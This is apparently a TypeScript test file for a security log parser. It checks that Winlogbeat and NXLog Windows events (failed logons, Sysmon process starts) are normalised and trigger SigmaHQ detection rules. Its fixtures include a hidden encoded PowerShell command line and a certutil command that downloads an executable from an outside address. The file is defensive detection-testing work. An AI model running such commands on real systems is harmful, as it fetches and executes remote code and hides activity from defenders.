/**
 * Windows events as the common shippers send them: Winlogbeat (and Elastic
 * Agent's Windows integration: ECS around `winlog`) and NXLog's
 * im_msvistalog JSON (flat). Before, a Winlogbeat 4625 was an ECS
 * `logon_failed` with no user and no address, and no Winlogbeat event
 * reached SigmaHQ's Windows rules (its channel and event id sat under
 * `winlog.*`); an NXLog 4625 was `other`/`unclassified`. Now both are read
 * as the EVTX dump layout is: the same classification, entities and
 * `EventID`/`Channel`/EventData fields.
 */
import assert from "node:assert/strict";
import type { EnrichedEvent } from "../../stages/shared/contracts/mod.ts";
import { validateRecord } from "../../stages/shared/contracts/mod.ts";
import {
  linesThroughDetector,
  parseOne,
  pick,
  sigmaHqRules,
} from "./_helpers.ts";

const WINLOGBEAT_4625 = {
  "@timestamp": "2026-11-24T10:00:00.123Z",
  event: {
    code: "4625",
    kind: "event",
    provider: "Microsoft-Windows-Security-Auditing",
    action: "logon-failed",
    category: ["authentication"],
    type: ["start"],
    outcome: "failure",
  },
  winlog: {
    channel: "Security",
    event_id: "4625",
    provider_name: "Microsoft-Windows-Security-Auditing",
    computer_name: "DC01.corp.example",
    record_id: "123456",
    keywords: ["Audit Failure"],
    opcode: "Info",
    process: { pid: 660, thread: { id: 1234 } },
    event_data: {
      TargetUserName: "administrator",
      TargetDomainName: "CORP",
      LogonType: "3",
      IpAddress: "203.0.113.5",
      IpPort: "51234",
      WorkstationName: "KALI",
      Status: "0xc000006d",
      SubStatus: "0xc000006a",
      AuthenticationPackageName: "NTLM",
    },
  },
  host: { name: "DC01.corp.example" },
  log: { level: "information" },
  agent: { type: "winlogbeat", version: "8.15.0" },
  message: "An account failed to log on.",
};

const WINLOGBEAT_SYSMON_1 = {
  "@timestamp": "2026-11-24T10:00:02.000Z",
  event: { code: "1", provider: "Microsoft-Windows-Sysmon" },
  winlog: {
    channel: "Microsoft-Windows-Sysmon/Operational",
    event_id: 1,
    computer_name: "WS01",
    event_data: {
      Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      CommandLine: "powershell.exe -nop -w hidden -enc SQBFAFgA",
      ParentImage: "C:\\Windows\\System32\\cmd.exe",
      ParentProcessId: "4100",
      User: "CORP\\bob",
      ProcessId: "4242",
      Hashes: "SHA256=" + "AB".repeat(32),
    },
  },
  agent: { type: "winlogbeat" },
};

const NXLOG_4625 = {
  EventTime: "2026-11-24 10:00:00",
  Hostname: "DC01.corp.example",
  Keywords: -9218868437227405312,
  EventType: "AUDIT_FAILURE",
  SeverityValue: 4,
  Severity: "ERROR",
  EventID: 4625,
  SourceName: "Microsoft-Windows-Security-Auditing",
  ProviderGuid: "{54849625-5478-4994-A5BA-3E3B0328C30D}",
  Task: 12544,
  RecordNumber: 123456,
  ProcessID: 660,
  Channel: "Security",
  Message: "An account failed to log on.",
  Category: "Logon",
  TargetUserName: "administrator",
  TargetDomainName: "CORP",
  Status: "0xc000006d",
  LogonType: "3",
  IpAddress: "203.0.113.5",
  IpPort: "51234",
  EventReceivedTime: "2026-11-24 10:00:01",
  SourceModuleName: "eventlog",
  SourceModuleType: "im_msvistalog",
};

interface Case {
  name: string;
  payload: Record<string, unknown>;
  expect: Record<string, unknown>;
}

const FAILED_LOGON = {
  ts: "2026-11-24T10:00:00.123Z",
  category: "auth",
  action: "logon",
  outcome: "failure",
  severity: "low",
  host: { name: "DC01.corp.example" },
  user: { name: "administrator", domain: "CORP" },
  source: { ip: "203.0.113.5", port: 51234 },
};

const CASES: Case[] = [
  {
    name: "Winlogbeat Security 4625: the logon failure with user and address",
    payload: WINLOGBEAT_4625,
    expect: {
      format: "windows_winlogbeat",
      ...FAILED_LOGON,
      fields: {
        EventID: "4625",
        Channel: "Security",
        Provider: "Microsoft-Windows-Security-Auditing",
        Keywords: "0x8010000000000000",
        EventRecordID: "123456",
        LogonType: "3",
        SubStatus: "0xc000006a",
        "agent.type": "winlogbeat",
      },
    },
  },
  {
    name: "Winlogbeat Sysmon 1: the process, its parent, user and hashes",
    payload: WINLOGBEAT_SYSMON_1,
    expect: {
      format: "windows_winlogbeat",
      category: "process",
      action: "process_start",
      user: { name: "bob", domain: "CORP" },
      process: {
        name: "powershell.exe",
        pid: 4242,
        command_line: "powershell.exe -nop -w hidden -enc SQBFAFgA",
        parent: { name: "cmd.exe", pid: 4100 },
        hash: { sha256: "ab".repeat(32) },
      },
      fields: {
        EventID: "1",
        Channel: "Microsoft-Windows-Sysmon/Operational",
        Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      },
    },
  },
  {
    name: "NXLog im_msvistalog 4625: the same event, not rated ERROR",
    payload: NXLOG_4625,
    expect: {
      format: "windows_nxlog",
      ...FAILED_LOGON,
      ts: "2026-11-24T10:00:00.000Z",
      fields: {
        EventID: "4625",
        Channel: "Security",
        Provider: "Microsoft-Windows-Security-Auditing",
        Keywords: "0x8010000000000000",
        TargetUserName: "administrator",
        RecordNumber: "123456",
      },
    },
  },
];

for (const c of CASES) {
  Deno.test(`windows shippers: ${c.name}`, () => {
    const r = parseOne(c.payload);
    assert.equal(validateRecord(r), null, JSON.stringify(r));
    assert.equal(r.record, "enriched_event", JSON.stringify(r));
    assert.deepEqual(pick(r, c.expect), c.expect);
    assert.deepEqual((r as EnrichedEvent).payload, c.payload);
  });
}

Deno.test("windows shippers: a Winlogbeat record its modules processed (EventData moved to ECS: process.*, source.*, user.*) reads the same", () => {
  const sysmon = {
    "@timestamp": "2026-11-24T10:05:00.000Z",
    event: { code: "1", module: "sysmon", category: ["process"] },
    winlog: {
      channel: "Microsoft-Windows-Sysmon/Operational",
      event_id: "1",
      computer_name: "WS01",
      event_data: { IntegrityLevel: "Medium", ParentUser: "CORP\\bob" },
    },
    process: {
      pid: 4242,
      executable: "C:\\Windows\\System32\\certutil.exe",
      command_line:
        "certutil.exe -urlcache -split -f http://203.0.113.80/a.exe a.exe",
      hash: { sha256: "ab".repeat(32) },
      parent: { pid: 4100, executable: "C:\\Windows\\System32\\cmd.exe" },
    },
    user: { name: "bob", domain: "CORP" },
  };
  const e = parseOne(sysmon) as EnrichedEvent;
  const want = {
    action: "process_start",
    user: { name: "bob", domain: "CORP" },
    process: {
      name: "certutil.exe",
      pid: 4242,
      parent: { name: "cmd.exe", pid: 4100 },
      hash: { sha256: "ab".repeat(32) },
    },
    fields: {
      Image: "C:\\Windows\\System32\\certutil.exe",
      CommandLine:
        "certutil.exe -urlcache -split -f http://203.0.113.80/a.exe a.exe",
      User: "CORP\\bob",
    },
  };
  assert.deepEqual(pick(e, want), want);
  const security = {
    ...WINLOGBEAT_4625,
    winlog: {
      ...WINLOGBEAT_4625.winlog,
      event_data: { TargetUserName: "administrator", LogonType: "3" },
    },
    source: { ip: "198.51.100.7", port: 49999, domain: "KALI" },
  };
  const f = parseOne(security) as EnrichedEvent;
  assert.deepEqual(f.source?.ip, "198.51.100.7");
  assert.equal(f.fields.IpAddress, "198.51.100.7");
  assert.equal(f.fields.WorkstationName, "KALI");
});

Deno.test("windows shippers: the windows_evtx hint takes Winlogbeat and NXLog events too", () => {
  for (const p of [WINLOGBEAT_4625, NXLOG_4625]) {
    const r = parseOne(p, { format: "windows_evtx" }) as EnrichedEvent;
    assert.equal(r.record, "enriched_event", JSON.stringify(r));
    assert.equal(r.action, "logon");
  }
});

Deno.test("windows shippers: other JSON with a Channel key, or a winlog without channel and id, stays generic JSON", () => {
  for (
    const p of [
      { Channel: "general", user: "bob", text: "hi" },
      // Channel, SourceName and EventID alone: no NXLog key, no GUID.
      {
        Channel: "general",
        SourceName: "slackbot",
        EventID: 42,
        user: "bob",
        src_ip: "203.0.113.9",
      },
      { winlog: { note: "x" }, message: "y" },
      { winlog: { channel: "Security", event_id: "n/a" } },
    ]
  ) {
    const r = parseOne(p) as EnrichedEvent;
    assert.equal(r.format, "json", JSON.stringify(p));
  }
});

const SIGMAHQ_WINDOWS = sigmaHqRules("windows");

Deno.test({
  name:
    "Winlogbeat and NXLog JSON | sentinel-parser --in-format lines | sentinel-detector: SigmaHQ's Windows rules fire (encoded PowerShell from Sysmon 1, a failed logon from a public address)",
  ignore: SIGMAHQ_WINDOWS === null,
  async fn() {
    // Two failed logons from two addresses: one through each shipper.
    const lines = [
      WINLOGBEAT_SYSMON_1,
      { ...NXLOG_4625, IpAddress: "198.51.100.77" },
      WINLOGBEAT_4625,
    ].map((p) => JSON.stringify(p));
    const { alerts } = await linesThroughDetector(
      lines,
      ["--rules", SIGMAHQ_WINDOWS!, "--anomaly", "off"],
    );
    const titles = alerts.map((a) => a.rule.title);
    assert.ok(
      titles.includes("Suspicious Encoded PowerShell Command Line"),
      titles.join(),
    );
    assert.equal(
      titles.filter((t) => t === "Failed Logon From Public IP").length,
      2,
      titles.join(),
    );
  },
});
